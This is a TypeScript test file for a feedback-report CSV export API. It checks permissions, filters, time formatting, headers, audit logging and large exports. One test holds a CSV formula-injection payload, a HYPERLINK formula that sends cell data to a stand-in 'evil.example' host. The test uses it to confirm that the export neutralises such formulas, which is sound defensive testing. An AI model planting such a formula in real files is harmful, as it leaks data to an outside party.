import { eq, sql } from 'drizzle-orm'
import { beforeAll, describe, expect, test } from 'vitest'
import { auditRows } from '../../db/tables/audit.ts'
import { feedback } from '../../db/tables/feedback.ts'
import { testServer } from '../../testing/server.ts'
import { callsOf, peopleOf, picture } from './testing.ts'

const server = testServer()
const { get, put, reported } = callsOf(server)
const { handler, someone, nobody, enter } = peopleOf(server)

beforeAll(enter)

/** Rows of a CSV file, by the names of its columns. */
function rowsOf(text: string): Record<string, string>[] {
  const lines = [...text.matchAll(/((?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^",\r\n]*))*)\r\n/g)]
  const [titles = [], ...rows] = lines.map(([, line = '']) =>
    [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
    ),
  )
  return rows.map((cells) => Object.fromEntries(titles.map((title, at) => [title, cells[at] ?? ''])))
}

/** The file of a list that is chosen by `query`, without the mark at its beginning. */
async function exported(query: string) {
  const answer = await server().app.inject({ url: `/api/feedback/export?${query}`, headers: handler })
  expect(answer.statusCode).toBe(200)
  expect(answer.payload.startsWith('\uFEFF"編號",')).toBe(true)
  return rowsOf(answer.payload.slice(1))
}

describe('the file of reports', () => {
  test('is for handlers: 401 for visitors, 403 without the permission', async () => {
    expect((await get('/api/feedback/export', nobody)).status).toBe(401)
    expect((await get('/api/feedback/export', someone)).status).toBe(403)
    expect((await get('/api/feedback/export?d[]=9', handler)).status).toBe(422)
  })

  test('holds what the list holds with its filters, in words and in Taipei’s time', async () => {
    const { db } = server().services
    const row = await reported(
      {
        content: '第一行，有逗號\n第二行「"引號"」',
        tel: '0912345678',
        'dialects[1]': '5',
        'types[1]': 'sound',
        'screenshots[0][file]': picture(),
      },
      nobody,
    )
    const other = await reported({ 'dialects[0]': '6', content: '別的腔調' }, nobody)
    await put(row.id, { status: 1, reply: '謝謝', note: '找語言組' }, handler)
    const at = new Date('2026-03-31T16:05:00Z')
    await db.update(feedback).set({ createdAt: at, updatedAt: at }).where(eq(feedback.id, row.id))

    const rows = await exported('ym[]=202604&d[]=5&status=1&keyword=逗號')
    expect(rows).toEqual([
      {
        編號: row.code,
        回報時間: '2026/04/01 00:05',
        狀態: '處理中',
        分類: '教學內容',
        子分類: '客語拼音錯誤',
        腔調: '四縣腔、詔安腔',
        類型: '文字、聲音',
        問題描述: '第一行，有逗號\n第二行「"引號"」',
        問題網址: row.url,
        電子郵件: row.email,
        聯絡電話: "'0912345678",
        截圖張數: '1',
        回覆: '謝謝',
        回覆附件數: '0',
        內部備註: '找語言組',
        最後更新: '2026/04/01 00:05',
        後台連結: `http://localhost:3000/admin/feedback/${row.id}`,
      },
    ])
    expect(await exported('ym[]=202603')).toEqual([])
    expect((await exported('d[]=6')).map((own) => own.編號)).toEqual([other.code])
    const oldest = await exported('sort=created_at&direction=asc')
    expect(oldest.map((own) => own.編號)).toEqual([row.code, other.code])
  })

  test('is saved under a name with its date, kept by no cache, and who took it stands in the audit list', async () => {
    const answer = await server().app.inject({ url: '/api/feedback/export?keyword=逗號', headers: handler })
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(answer.headers['cache-control']).toBe('private, no-store')
    const disposition = decodeURIComponent(String(answer.headers['content-disposition']))
    const [name] = /問題回報-\d{8}-\d{4}\.csv/.exec(disposition) ?? []
    expect(disposition).toMatch(/^attachment; /)
    const { db } = server().services
    const lines = await db.select().from(auditRows).where(eq(auditRows.action, 'feedback.export'))
    expect(lines.at(-1)).toMatchObject({ userName: '阿蘭', subject: `${name}（1 件）`, after: null })
  })

  test('what a reporter or a handler has written is no formula in it', async () => {
    const attack = '=HYPERLINK("http://evil.example?"&A1,"按我")'
    const row = await reported({ content: attack, tel: '+886-2', url: '@SUM(A1)' }, nobody)
    await put(row.id, { status: 1, reply: '-1+1', note: '＝1+1' }, handler)
    const [own] = await exported(`keyword=${row.code}`)
    expect(own).toMatchObject({
      問題描述: `'${attack}`,
      聯絡電話: "'+886-2",
      問題網址: "'@SUM(A1)",
      回覆: "'-1+1",
      內部備註: "'＝1+1",
    })
  })

  test('20,000 reports come whole and in order, a part at a time', async () => {
    await server().seed(sql`
      insert into feedback (code, email, url, content, category, created_at)
      select 'L-' || n, 'a@b.example', '/', repeat('很長的回報', 100), 5, now() - n * interval '1 minute'
      from generate_series(1, 20000) n`)
    const rows = await exported('keyword=L-')
    expect(rows.length).toBe(20_000)
    expect(rows.every((own, at) => own.編號 === `L-${at + 1}`)).toBe(true)
  })
})
